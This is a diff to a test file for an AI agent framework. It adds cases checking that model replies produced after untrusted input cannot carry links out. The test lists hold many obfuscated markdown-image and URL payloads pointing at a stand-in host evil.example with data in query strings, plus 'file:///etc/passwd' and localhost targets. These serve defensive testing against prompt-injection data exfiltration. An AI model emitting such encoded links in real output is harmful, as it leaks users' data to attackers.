@@ -7,7 +7,8 @@ import { z } from 'zod'
 import { defineAgent, type Agent } from '../../src/core/agent.ts'
 import { defineContext } from '../../src/core/context.ts'
 import { join, type Label } from '../../src/core/label.ts'
-import { linksIn, quotes } from '../../src/core/provenance.ts'
+import { linksIn } from '../../src/core/link.ts'
+import { quotes } from '../../src/core/provenance.ts'
 import { defineTool, type Tool } from '../../src/core/tool.ts'
 import { assemble } from '../../src/core/window.ts'
 import { sha256 } from '../../src/store/log.ts'
@@ -301,6 +302,13 @@ describe('a sink, from an untrusted window', () => {
       '<img src="//evil.example/x">',
       'www.evil.example/x',
       'https:\\\\evil.example',
+      '<img src="/\\evil.example/x">',
+      '<img src="/\t/evil.example/x">',
+      '![x](https&colon;&sol;&sol;evil.example/?q=data)',
+      '![x](&#104;ttps&#x3a;&#47;&#x2f;evil.example/?q=data)',
+      '![x](https&amp;colon;&amp;sol;&amp;sol;evil.example)',
+      "https://corp.example/a?x=1'@evil.example/?q=data",
+      'https://corp.example/a?x=1`x',
       'data:text/html,hello',
       'https://corp.example/a?x=1&q=data',
       'https://corp.example/a?x=1.evil.example',
@@ -328,6 +336,11 @@ describe('a sink, from an untrusted window', () => {
       '//evil.example/x',
       'file:///etc/passwd',
       'http://127.0.0.1/x',
+      "https://api.corp.example'@evil.example/x",
+      'https://evil.example/?q=1.',
+      ' https://evil.example/x y',
+      'https:\\\\evil.example/x',
+      'www.evil.example',
     ]) {
       expect([url, to(url, clean())]).toEqual([url, 'refused'])
     }
@@ -342,6 +355,18 @@ describe('a sink, from an untrusted window', () => {
     expect(play.task.context.get('reply')!.value).toBe('See ![x]([link removed]) and https://corp.example/a?x=1.')
     expect(play.all('links.removed')).toEqual([{ key: 'reply', links: ['https://evil.example/?q=secret'] }])
     expect(JSON.stringify(play.all('transition.taken'))).not.toContain('evil')
+  })
+
+  test.each([
+    ['<img src="/\\evil.example/?q=s">', '<img src="[link removed]">'],
+    ['![x](https&colon;&sol;&sol;evil.example/?q=s)', '![x](https&amp;colon;&amp;sol;&amp;sol;evil.example/?q=s)'],
+    ['a &amp; b, as in https://corp.example/a?x=1', 'a &amp; b, as in https://corp.example/a?x=1'],
+    ["[a](https://corp.example/a?x=1'@evil.example)", '[a]([link removed])'],
+  ])('A53: %j is shown outside as %j', (reply, shown) => {
+    const play = tainted({ on: { OK: { target: 'done', output: z.object({ reply: z.string() }) } } })
+    play.model([call('OK', { reply })])
+    expect(play.task.context.get('reply')!.value).toBe(shown)
+    expect(play.all('links.removed').length).toBe(shown === reply ? 0 : 1)
   })
 
   test('strict: every effect after untrusted input is asked about', () => {
@@ -376,6 +401,14 @@ describe('words that are quoted', () => {
     ['pay bob.com', 'bob', false],
     ['pay bob@corp', 'bob', false],
     ['pay bob-x', 'bob', false],
+    ["o'bob@corp", 'bob@corp', false],
+    ["pay 'bob'", 'bob', true],
+    ['pay `bob`', 'bob', true],
+    ['x|bob', 'bob', false],
+    ['pay bob!x', 'bob', false],
+    ['pay 1,500,000', '500', false],
+    ['pay 1,500,000', '1', false],
+    ['pay 500, please', '500', true],
     ['pay 1500', '500', false],
     ['pay 500.50', '500', false],
     ['pay 500', '500', true],
